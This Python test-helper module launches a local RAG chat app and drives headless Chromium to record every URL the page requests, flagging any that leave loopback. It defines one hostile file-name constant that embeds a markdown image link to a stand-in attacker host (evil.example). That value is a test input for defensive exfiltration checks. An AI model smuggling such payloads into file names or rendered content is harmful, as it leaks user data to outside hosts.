"""The real page in headless Chromium, for the browser tests (tests/e2e).

``Apps`` starts ``python -m gpt4all_rag.ui.launch`` on free loopback ports; the
rest finds Chromium and reads what the page shows and what it requested. The
fixtures built on them are in tests/e2e/conftest.py.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

from tests.helpers.app_page import APP_TOKEN
from tests.helpers.processes import LOOPBACK, free_port, stop_process

ROOT = Path(__file__).resolve().parents[2]
DOCS = ROOT / "tests" / "data" / "docs"
MANUAL = DOCS / "manual.pdf"
SCREENSHOT = ROOT / "artifacts" / "e2e-answer.png"
QUESTION = "What is the core temperature of the Zorblax reactor?"
START_TIMEOUT = 90
INDEX_TIMEOUT = 240
ANSWER_TIMEOUT = 300
FAKES = {
    "GPT4ALL_RAG_EMBEDDING_BACKEND": "hash",
    "GPT4ALL_RAG_LLM_BACKEND": "scripted",
}
HOSTILE_NAME = "x.![](http:evil.example?q=name).md"

Condition = Callable[[WebDriver], object]


def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + START_TIMEOUT
    while time.monotonic() < deadline:
        if server.poll() is not None:
            pytest.fail(f"streamlit exited with {server.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.5)
    pytest.fail(f"streamlit did not answer on {url} within {START_TIMEOUT} s:\n{log.read_text()}")


def opened(url: str) -> str:
    """The app's launch link: its address with the secret the test launched it with."""
    return f"{url}/?token={APP_TOKEN}"


class Apps:
    """``python -m gpt4all_rag.ui.launch`` (``make app``) on free loopback ports.

    Started with ``GPT4ALL_RAG_APP_TOKEN=APP_TOKEN``; ``opened(url)`` is its link.
    """

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.servers: list[tuple[subprocess.Popen[bytes], Path]] = []

    def start(self, environment: dict[str, str]) -> str:
        """Start the page on the tmp folders, with ``environment`` added; return its URL."""
        port = free_port()
        (self.folder / "docs").mkdir(exist_ok=True)
        env = {
            **os.environ,
            "GPT4ALL_RAG_DOCUMENTS_DIR": str(self.folder / "docs"),
            "GPT4ALL_RAG_INDEX_DIR": str(self.folder / "index"),
            "GPT4ALL_RAG_APP_TOKEN": APP_TOKEN,
            **environment,
        }
        env.pop("GPT4ALL_RAG_MODEL_PATH", None)
        log = self.folder / f"streamlit-{port}.log"
        command = [sys.executable, "-m", "gpt4all_rag.ui.launch", "--port", str(port)]
        with log.open("wb") as out:
            server = subprocess.Popen(
                command, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT
            )
        self.servers.append((server, log))
        url = f"http://{LOOPBACK}:{port}"
        wait_for_health(url, server, log)
        return url

    def serving(self, condition: Condition) -> Condition:
        """``condition``, failing at once (with the server's log) if a server has died."""

        def check(driver: WebDriver) -> object:
            for server, log in self.servers:
                if server.poll() is not None:
                    tail = log.read_text(errors="replace")[-6000:]
                    pytest.fail(f"streamlit exited with {server.returncode}:\n{tail}")
            return condition(driver)

        return check

    def stop(self) -> None:
        for server, _ in self.servers:
            stop_process(server, timeout=15)


def find_program(*names: str) -> str:
    for name in names:
        found = shutil.which(name)
        if found:
            return found
    pytest.fail(
        f"{' or '.join(names)} not found: the browser test needs Chromium and its driver "
        "(make deps; or on Debian/Ubuntu: apt-get install chromium chromium-driver)"
    )


def requested_urls(driver: WebDriver) -> list[str]:
    """Every URL the page asked for since the last call (requests and WebSockets)."""
    urls: list[str] = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        params = message.get("params", {})
        if message["method"] == "Network.requestWillBeSent":
            urls.append(params["request"]["url"])
        elif message["method"] == "Network.webSocketCreated":
            urls.append(params["url"])
    return urls


def off_loopback(urls: list[str]) -> list[str]:
    """The URLs that would leave this computer (data:, blob: and the browser's own never do)."""
    local_schemes = {"data", "blob", "about", "chrome", "chrome-untrusted", "devtools"}
    return [
        u
        for u in urls
        if urlsplit(u).scheme not in local_schemes and urlsplit(u).hostname != LOOPBACK
    ]


def sidebar_text(driver: WebDriver) -> str:
    return str(driver.find_element(By.CSS_SELECTOR, '[data-testid="stSidebar"]').text)


def source_summaries(driver: WebDriver) -> list[WebElement]:
    css = '[data-testid="stChatMessage"] [data-testid="stExpander"] summary'
    return list(driver.find_elements(By.CSS_SELECTOR, css))


def send_question(driver: WebDriver, question: str) -> None:
    box = WebDriverWait(driver, INDEX_TIMEOUT).until(
        ec.element_to_be_clickable((By.CSS_SELECTOR, '[data-testid="stChatInputTextArea"]'))
    )
    box.send_keys(question)
    box.send_keys(Keys.ENTER)


def chat_texts(driver: WebDriver) -> list[str]:
    css = '[data-testid="stChatMessageContent"]'
    return [m.text for m in driver.find_elements(By.CSS_SELECTOR, css)]


def open_every_source(browser: WebDriver) -> None:
    """Click each source open; opening one reruns the app, so each is found afresh."""
    for n in range(len(source_summaries(browser))):
        for _attempt in range(5):
            try:
                summaries = source_summaries(browser)
                if n < len(summaries):
                    browser.execute_script("arguments[0].click()", summaries[n])
                break
            except StaleElementReferenceException:
                time.sleep(0.5)  # the rerun replaced it: find it again
